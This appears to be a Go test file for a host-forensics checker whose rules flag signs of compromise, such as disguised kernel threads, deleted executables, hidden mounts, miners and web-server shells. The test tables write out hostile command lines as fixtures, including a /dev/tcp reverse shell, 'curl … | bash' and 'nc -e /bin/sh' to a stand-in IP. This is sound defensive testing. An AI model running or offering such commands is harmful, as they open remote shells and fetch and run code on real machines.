package checklist

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"latchkey/diag"
)

// proc is a process for the tables: only what is told counts.
func proc(command string, pid, ppid int, args string, more ...func(*Process)) Process {
	p := newProcess()
	p.Where, p.PID, p.PPID = Where{Command: command, Line: pid}, pid, ppid
	if args != "" {
		p.setArgs(args)
	}
	for _, m := range more {
		m(&p)
	}
	return p
}

func withMemory(kib int64) func(*Process) { return func(p *Process) { p.VSZ, p.RSS = kib, kib } }
func withExe(path string) func(*Process)  { return func(p *Process) { p.Exe = path } }
func withCwd(path string) func(*Process)  { return func(p *Process) { p.Cwd = path } }
func ownedBy(name string) func(*Process) {
	return func(p *Process) { p.User = name }
}
func withCPU(share float64) func(*Process) { return func(p *Process) { p.CPU = share; p.RSS = 1 } }

func processes(all ...Process) *Host { return &Host{Processes: all} }

// several are a machine's ordinary processes, so that a listing counts as whole.
func several(command string, more ...Process) []Process {
	all := []Process{proc(command, 1, 0, "/sbin/init")}
	for pid := 100; pid < 112; pid++ {
		all = append(all, proc(command, pid, 1, "/usr/sbin/daemon"))
	}
	return append(all, more...)
}

// TestProcessRules: each rule has something to find, something like it to
// leave alone, and says how grave it is. want is «rule severity pid», joined.
func TestProcessRules(t *testing.T) {
	worker := func(pid, ppid int, user string) Process {
		return proc("ps", pid, ppid, "/usr/sbin/apache2 -k start", ownedBy(user))
	}
	for _, c := range []struct {
		name string
		host *Host
		want string
	}{
		{"kernel thread with memory", processes(proc("ps", 592, -1, "[kworker/0:1]", withMemory(996))), "P01 critical 592"},
		{"kernel thread with another parent", processes(proc("ps", 592, 1, "[kworker/0:1]")), "P01 critical 592"},
		{"kernel thread with a file", processes(proc("ps", 592, 2, "[kworker/0:1]", withMemory(0)), proc("proc-exe", 592, -1, "", withExe("/usr/bin/x"))), "P01 critical 592"},
		{"kernel thread's name in top", processes(proc("top", 592, -1, "kworker/0:1", withMemory(996))), "P01 critical 592"},
		{"genuine kernel threads", processes(proc("ps", 2, 0, "[kthreadd]", withMemory(0)), proc("ps", 17, 2, "[kworker/0:1]", withMemory(0)), proc("top", 17, -1, "kworker/0:1", withMemory(0))), ""},
		{"kernel threads of a container", processes(proc("ps", 9, 1, "[kthreadd/101]", withMemory(0)), proc("ps", 10, 9, "[khelper/101]", withMemory(0))), ""},
		{"zombie", processes(proc("ps", 814, 812, "[sh] <defunct>", withMemory(0))), ""},
		{"zombie with memory", processes(proc("ps", 814, 1, "[kworker/0:2] <defunct>", withMemory(900))), "P01 critical 814"},
		{"daemon without command line", processes(proc("ps", 900, 1, "[mydaemon]", withMemory(4000))), "P01 warning 900"},
		{"watchdog is a daemon too", processes(proc("top", 900, 1, "watchdog", withMemory(4000))), ""},

		{"deleted in shared memory", processes(proc("proc-exe", 592, -1, "", withExe("/dev/shm/kw (deleted)"))), "P02 critical 592"},
		{"deleted in a hidden folder", processes(proc("proc-exe", 592, -1, "", withExe("/usr/lib/.x/a (deleted)"))), "P02 critical 592"},
		{"deleted in a home", processes(proc("proc-exe", 592, -1, "", withExe("/home/carla/bot (deleted)"))), "P02 warning 592"},
		{"updated package, two processes", processes(proc("proc-exe", 7, -1, "", withExe("/usr/sbin/nginx (deleted)")), proc("proc-exe", 8, -1, "", withExe("/usr/sbin/nginx (deleted)"))), "P02b info 7"},
		{"only in memory", processes(proc("proc-exe", 7, -1, "", withExe("/memfd:a (deleted)"))), "P02c warning 7"},
		{"container runtime in memory", processes(proc("ps", 6, 1, "/usr/bin/containerd-shim-runc-v2"), proc("ps", 7, 6, "runc init", withExe("/memfd:runc_cloned:/proc/self/exe (deleted)"))), ""},
		{"like a container runtime", processes(proc("ps", 6, 1, "/usr/sbin/sshd"), proc("ps", 7, 6, "runc init", withExe("/memfd:runc_cloned:/proc/self/exe (deleted)"))), "P02c warning 7"},

		{"program in /tmp", processes(proc("ps", 7, 1, "/tmp/.ICE-unix/.b/sshx -")), "P03 warning 7"},
		{"script in /var/tmp", processes(proc("ps", 7, 1, "/usr/bin/perl /var/tmp/a.pl")), "P03 warning 7"},
		{"directory of three dots", processes(proc("proc-exe", 7, -1, "", withExe("/usr/lib/.../a"))), "P03 warning 7"},
		{"tool in a hidden folder of a home", processes(proc("proc-exe", 7, -1, "", withExe("/home/carla/.nvm/bin/node"))), "P03 notice 7"},
		{"shell standing in /tmp", processes(proc("proc-exe", 7, -1, "", withExe("/usr/bin/bash"), withCwd("/tmp"))), ""},
		{"shell standing in a hidden folder there", processes(proc("proc-exe", 7, -1, "", withExe("/usr/bin/bash"), withCwd("/dev/shm/.x"))), "P03 warning 7"},
		{"AppImage", processes(proc("proc-exe", 7, -1, "", withExe("/tmp/.mount_Edit1a/usr/bin/edit"))), ""},

		{"another program's name", processes(proc("ps", 7, 1, "/usr/sbin/apache2 -k start"), proc("proc-exe", 7, -1, "", withExe("/srv/udpx"))), "P04 warning 7"},
		{"one program, many names", processes(proc("ps", 7, 1, "/lib/systemd/systemd-udevd"), proc("proc-exe", 7, -1, "", withExe("/usr/bin/udevadm"))), ""},
		{"link to another folder", processes(proc("ps", 7, 1, "/usr/bin/java -jar a"), proc("proc-exe", 7, -1, "", withExe("/srv/jdk/bin/java"))), ""},

		{"mount over a process", &Host{Mounts: []Mount{{Point: "/proc/4711"}, {Point: "/proc/sys"}, {Point: "/proc/4711"}}}, "P05 critical 4711"},
		{"container's mounts", &Host{Mounts: []Mount{{Point: "/proc/kcore"}, {Point: "/proc/sys/net"}}}, ""},

		{"miner", processes(proc("ps", 7, 1, "./a -o stratum+tcp://203.0.113.5:3333")), "P06 critical 7"},
		{"looking for miners", processes(proc("ps", 7, 1, "grep --color=auto xmrig"), proc("ps", 8, 1, "/usr/bin/pgrep -f xmrig")), ""},
		{"miner's container", &Host{Containers: []Container{{Image: "kannix/monero-miner"}, {Image: "redis:7"}}}, "P06b critical <nil>"},

		{"shell to elsewhere", processes(proc("ps", 7, 1, "bash -c exec 5<>/dev/tcp/203.0.113.66/4444")), "P07 warning 7"},
		{"download into a shell", processes(proc("ps", 7, 1, "sh -c curl -s http://203.0.113.66/a | bash")), "P07 warning 7"},
		{"netcat with a shell", processes(proc("ps", 7, 1, "nc -e /bin/sh 203.0.113.66 4444")), "P07 warning 7"},
		{"health checks", processes(proc("ps", 7, 1, "sh -c curl -f http://localhost/ || exit 1"), proc("ps", 8, 1, "bash -c </dev/tcp/127.0.0.1/8080")), ""},

		{"unhide, no more known", processes(proc("unhide", 7, -1, "")), "P08 warning 7"},
		{"unhide and a mount", &Host{Processes: []Process{proc("unhide", 7, -1, "")}, Mounts: []Mount{{Point: "/proc/7"}}}, "P05 critical 7; P08 critical 7"},
		{"unhide with a file", processes(proc("unhide", 7, -1, "/usr/sbin/x -f")), "P08 critical 7"},
		{"missing in pstree", processes(append(several("ps", proc("ps", 90, 1, "[kworker/0:1]", withMemory(9))), several("pstree")...)...), "P01 critical 90; P08 warning 90"},
		{"started after pstree", processes(append(several("ps", proc("ps", 900, 1, "[kworker/0:1]", withMemory(9))), several("pstree")...)...), "P01 critical 900"},
		{"listens, not in ps", &Host{Processes: several("ps"), Sockets: []Socket{{State: "LISTEN", PID: 50}, {State: "LISTEN", PID: 500}, {State: "ESTAB", PID: 51}}}, "P08 warning 50"},
		{"listens, ps of one user", &Host{Processes: []Process{proc("ps", 900, 1, "bash")}, Sockets: []Socket{{State: "LISTEN", PID: 50}}}, ""},

		{"sniffer", processes(proc("ps", 7, 1, "/usr/bin/tcpdump -i eth0")), "P09 warning 7"},
		{"manual of a scanner", processes(proc("ps", 7, 1, "man nmap")), ""},

		{"load in two samples", processes(proc("top", 7, -1, "a", withCPU(198)), proc("top", 7, -1, "a", withCPU(199))), "P10 info 7"},
		{"top itself, idle ones", processes(proc("top", 7, -1, "top", withCPU(77)), proc("top", 8, -1, "a", withCPU(13))), ""},

		{"shell of a web server", processes(proc("ps", 5, 1, "/usr/sbin/apache2 -k start"), proc("ps", 7, 5, "sh -c id")), "P11 warning 7"},
		{"loader of PHP", processes(proc("ps", 5, 1, "php-fpm: pool www", func(p *Process) { p.Name = "php-fpm8.2" }), proc("ps", 7, 5, "curl -O http://203.0.113.9/x")), "P11 warning 7"},
		{"log rotation, mail", processes(proc("ps", 5, 1, "/usr/sbin/apache2 -k start"), proc("ps", 7, 5, "sh -c /usr/bin/rotatelogs /var/log/a 1d"), proc("ps", 8, 5, "sh -c /usr/sbin/sendmail -t")), ""},
		{"shell of a login", processes(proc("ps", 5, 1, "sshd: carla"), proc("ps", 7, 5, "bash")), ""},

		{"control characters", processes(proc("ps", 7, 1, "a\x1b[2Jb")), "P12 warning 7"},
		{"masked by ps", processes(proc("ps", 7, 1, ".]0;title..[31mred.[0m 1500")), "P12 warning 7"},
		{"masked by newer ps", processes(proc("ps", 7, 1, "?[31mred?[0m 1500")), "P12 warning 7"},
		{"umlauts, odd brackets", processes(proc("ps", 7, 1, "/usr/bin/mp3 für\tElise.[12].mp3"), proc("ps", 8, 1, "nc (x"), proc("ps", 9, 1, "grep .[0m")), ""},

		{"stranger among workers", processes(worker(10, 1, "root"), worker(11, 10, "www-data"), worker(12, 10, "www-data"), worker(99, 1, "www-data")), "P13 warning 99"},
		{"workers", processes(worker(10, 1, "root"), worker(11, 10, "www-data"), worker(12, 10, "www-data")), ""},
		{"parents unknown", processes(worker(10, -1, "root"), worker(11, -1, "www-data"), worker(12, -1, "www-data")), ""},

		{"syslog holds a deleted log", &Host{OpenFiles: []OpenFile{{PID: 74, Name: "rsyslogd", Path: "/var/log/auth.log", FD: "11w", Deleted: true}}}, "L01 warning 74"},
		{"rotated", &Host{OpenFiles: []OpenFile{{PID: 74, Name: "rsyslogd", Path: "/var/log/syslog.1", Deleted: true}}}, "L01 notice 74"},
		{"a descriptor of a deleted log", &Host{Files: []File{{Path: "/proc/74/fd/11", Mode: "l-wx------", Link: "/var/log/auth.log (deleted)"}}}, "L01b warning <nil>"},
		{"one that only reads", &Host{Files: []File{{Path: "11", Mode: "lr-x------", Link: "/var/log/auth.log (deleted)"}}}, ""},
		{"others' deleted files", &Host{OpenFiles: []OpenFile{{PID: 74, Name: "rsyslogd", Path: "/proc/kmsg", Deleted: true}, {PID: 75, Name: "apache2", Path: "/tmp/.ZendSem.x", Deleted: true}, {PID: 74, Name: "rsyslogd", Path: "/var/log/auth.log"}}}, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := strings.Join(verdicts(c.host), "; "); got != c.want {
				t.Errorf("got  %q\nwant %q", got, c.want)
			}
		})
	}
}

// verdicts are the findings of the rules of this file's subject alone.
func verdicts(h *Host) []string {
	var all []string
	for _, f := range Judge(h) {
		if slices.ContainsFunc(processRules(), func(r rule) bool { return r.id == f.Rule }) {
			all = append(all, fmt.Sprint(f.Rule, " ", f.Severity, " ", f.Params["pid"]))
		}
	}
	return all
}

// TestMissingInLsof holds sockets of two commands against each other.
func TestMissingInLsof(t *testing.T) {
	socket := func(command string, pid, port int) Socket {
		return Socket{Where: Where{Command: command}, Protocol: "tcp", State: "LISTEN", PID: pid, Local: End{Host: "0.0.0.0", Port: port}}
	}
	host := func(lsof ...int) *Host {
		h := &Host{}
		for pid := 11; pid < 16; pid++ {
			h.Sockets = append(h.Sockets, socket("ss", pid, 1000+pid))
		}
		for _, pid := range lsof {
			h.Sockets = append(h.Sockets, socket("lsof", pid, 1000+pid))
			h.Processes = append(h.Processes, proc("lsof", pid, -1, ""))
		}
		return h
	}
	for _, c := range []struct {
		name string
		host *Host
		want string
	}{
		{"one missing", host(11, 12, 13, 14), "N07 warning 15"},
		{"all there", host(11, 12, 13, 14, 15), ""},
		{"lsof of one port", host(11), ""},
		{"lsof of some", host(11, 12), ""},
		{"no lsof", host(), ""},
	} {
		if got := strings.Join(verdicts(c.host), "; "); got != c.want {
			t.Errorf("%s: got %q, want %q", c.name, got, c.want)
		}
	}
	other := host(11, 12, 13, 14)
	for i := range other.Sockets {
		if s := &other.Sockets[i]; s.Command == "ss" && s.PID == 15 {
			s.Local.Host = "::" // lsof -i4 was asked
		}
	}
	if got := verdicts(other); len(got) > 0 {
		t.Errorf("another family: %q", got)
	}
}

// TestReusedPID: a PID that two processes had is not one process.
func TestReusedPID(t *testing.T) {
	at := func(s string) func(*Process) {
		return func(p *Process) { p.Started, _ = time.Parse(time.DateTime, s) }
	}
	all := everybody(processes(proc("ps", 7, 1, "/usr/sbin/cron", at("2026-11-21 22:00:00")),
		proc("ps", 7, 99, "/tmp/x", at("2026-11-21 23:00:00"), withExe("/tmp/x"))))
	if len(all) != 1 || all[0].Args != "/usr/sbin/cron" || all[0].Exe != "" || all[0].PPID != 1 {
		t.Errorf("%+v", all)
	}
}

// BenchmarkRules judges a listing as long as is read at all, and one of half the
// length: rules that compare all with all show as four times the time.
func BenchmarkRules(b *testing.B) {
	for _, most := range []int{15_000, 30_000} {
		h := &Host{}
		for pid := range most {
			h.Processes = append(h.Processes, proc("unhide", pid, pid/2, ""), proc("ps", pid, pid/2, "[kworker/0:1] (deleted)"), proc("lsof", pid, -1, ""))
			h.Sockets = append(h.Sockets, Socket{Where: Where{Command: "ss"}, Protocol: "tcp", State: "LISTEN", PID: pid})
			h.Mounts = append(h.Mounts, Mount{Point: fmt.Sprint("/proc/", pid)})
		}
		b.Run(fmt.Sprint(most), func(b *testing.B) {
			for b.Loop() {
				for _, r := range processRules() {
					r.judge(h, func(diag.Severity, Where, ...any) {})
				}
			}
		})
	}
}

// TestLabHosts reads the laboratory's hosts where they are at hand: what was
// planted is named, untouched hosts give nothing grave.
func TestLabHosts(t *testing.T) {
	lab := filepath.Join("..", "..", "..", "shared", "cases", "evidence")
	if _, err := os.Stat(lab); err != nil {
		t.Skip("the laboratory's outputs are not here")
	}
	for name, want := range map[string][]string{
		"clean": {}, "vm/before": {},
		"vm/incident": {"P01 critical 592", "P02 critical 592"},
		"incident": {"P01 critical 141539", "P02 critical 141539", "P03 warning 141623", "P04 warning 141630", "P13 warning 141630", "P06 critical 141634",
			"P03 warning 141634", "P05 critical 141641", "P08 critical 141641", "P08 warning 141539", "P09 warning 141655", "P10 info 141652",
			"P11 warning 141676", "P12 warning 141649", "N07 warning 141638", "L01 warning 74"},
	} {
		var hosts []*Host
		files, _ := filepath.Glob(filepath.Join(lab, name, "*.txt"))
		for _, file := range files {
			data, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			if r, ok := Read(data, ""); ok {
				hosts = append(hosts, r.Host)
			}
		}
		got := verdicts(Merge(hosts...))
		for _, w := range want {
			if !slices.Contains(got, w) {
				t.Errorf("%s: %s is not named", name, w)
			}
		}
		for _, g := range got {
			if len(want) == 0 && !strings.Contains(g, " info ") {
				t.Errorf("%s: %s on an untouched host", name, g)
			}
		}
	}
}
